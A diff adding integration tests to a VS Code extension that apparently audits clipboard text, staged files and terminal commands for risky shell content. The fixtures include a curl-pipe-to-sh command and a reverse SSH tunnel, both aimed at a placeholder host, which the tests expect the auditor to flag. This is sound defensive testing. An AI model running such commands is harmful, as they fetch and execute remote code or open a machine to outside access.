@@ -1,11 +1,11 @@
 /** The whole account of a change, kept from the editor and from the command line at once. */
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
-import { readFileSync, writeFileSync } from "node:fs";
+import { readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { commands, Selection, window } from "vscode";
+import { ConfigurationTarget, commands, env, Position, Selection, window, workspace } from "vscode";
 import type { ItemView, UnitView } from "../../../extension/core/report/checklist-view.ts";
-import type { ChecklistAnswer, ReviewAnswer } from "../../../extension/server/protocol.ts";
+import type { AuditAnswer, ChecklistAnswer, ReviewAnswer } from "../../../extension/server/protocol.ts";
 import { checklistOfCommandLine, folder, outputOf } from "./command-line.ts";
 import { closeAll, eventually, open } from "./looking.ts";
 import { runMocha } from "./run-mocha.ts";
@@ -120,7 +120,84 @@ export const run = (): Promise<void> =>
       assert.equal(answer.checklist.units.find(({ path }) => path === "old.sh")?.isStale, true);
       assert.equal(answer.checklist.gate.isOpen, false);
     });
+
+    it("looks again by itself when a file is saved, and when a commit moves HEAD", async () => {
+      const editor = await open("train.py");
+      await editor.edit((edit) => edit.insert(new Position(0, 0), "import os\n"));
+      await editor.document.save();
+      const unit = await eventually("the saved change", () => shownUnit("train.py"));
+      assert.equal(unit.isVerified, false);
+      execFileSync("git", ["commit", "-q", "--no-verify", "-m", "Save", "train.py"], { cwd: folder() });
+      await eventually("the review without what is committed to main itself", async () =>
+        (await shownUnit("train.py")) === undefined ? true : undefined,
+      );
+    });
+
+    it("sends back what is open as a text, and keeps that it did", async () => {
+      const text = await ours<string>("sendBack");
+      assert.match(text, /^# Open items of a review/);
+      assert.match(text, /## 1\. /);
+      assert.equal(await env.clipboard.readText(), text);
+      assert.equal(window.activeTextEditor?.document.getText(), text);
+      assert.equal(ledger().at(-1)?.["kind"], "handback");
+    });
+
+    it("audits what is in the clipboard before it is pasted", async () => {
+      await env.clipboard.writeText("curl -s http://203.0.113.7/x.sh | sh\n");
+      const answer = await ours<AuditAnswer>("auditClipboard", "shellscript");
+      assert.equal(answer.verdict, "attention");
+      await env.clipboard.writeText("");
+      assert.equal(await ours("auditClipboard", "shellscript"), undefined);
+    });
+
+    it("audits what is staged, whatever the working tree says", async () => {
+      writeFileSync(join(folder(), "staged.sh"), "#!/bin/sh\nssh -R 9:localhost:22 agent@203.0.113.7\n");
+      execFileSync("git", ["add", "staged.sh"], { cwd: folder() });
+      writeFileSync(join(folder(), "staged.sh"), "#!/bin/sh\necho nothing\n");
+      const shown = await eventually("the audit of the index", () =>
+        ours<{ readonly findings: readonly { readonly path: string; readonly rule: string }[] } | undefined>("auditStaged"),
+      );
+      assert.deepEqual(
+        shown.findings.map(({ path, rule }) => [path, rule]),
+        [["staged.sh", "command/reverse-ssh-tunnel"]],
+      );
+    });
+
+    it("audits a command as it starts in a terminal, once the person wants that", async () => {
+      const settings = workspace.getConfiguration("countersign");
+      await settings.update("terminal.audit", true, ConfigurationTarget.Global);
+      const terminal = window.createTerminal({ name: "lab", shellPath: "/bin/bash" });
+      terminal.show(true);
+      try {
+        const integration = await eventually("the shell integration", () => terminal.shellIntegration, 15_000);
+        integration.executeCommand("true ssh -R 9:localhost:22 agent@203.0.113.7; false && ssh -R 9:localhost:22 agent@203.0.113.7");
+        await eventually("the warning in the log", () => {
+          const log = readdirSync(logs(), { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith("Countersign.log"));
+          return log.some((name) => /lab: \w+: Opens a reverse tunnel/.test(readFileSync(join(logs(), name), "utf8"))) || undefined;
+        });
+      } finally {
+        terminal.dispose();
+        await settings.update("terminal.audit", undefined, ConfigurationTarget.Global);
+      }
+    });
   });
+
+/** As the editor shows it, without asking for anything anew. */
+async function shownUnit(path: string): Promise<UnitView | undefined> {
+  const names = (await checklistOfCommandLine()).units.filter((unit) => unit.path === path).map(({ name }) => name);
+  for (const name of names) {
+    const unit = await ours<UnitView | undefined>("openUnit", name);
+    if (unit !== undefined) return unit;
+  }
+  return undefined;
+}
+
+/** Where the window keeps its logs: beside the report, in the data of the server. */
+function logs(): string {
+  const directory = process.env["VSCODE_LOGS"] ?? process.env["XDG_DATA_HOME"];
+  assert.ok(directory);
+  return directory;
+}
 
 const refreshed = (): Thenable<ChecklistAnswer> => ours<ChecklistAnswer>("refreshReview");
 
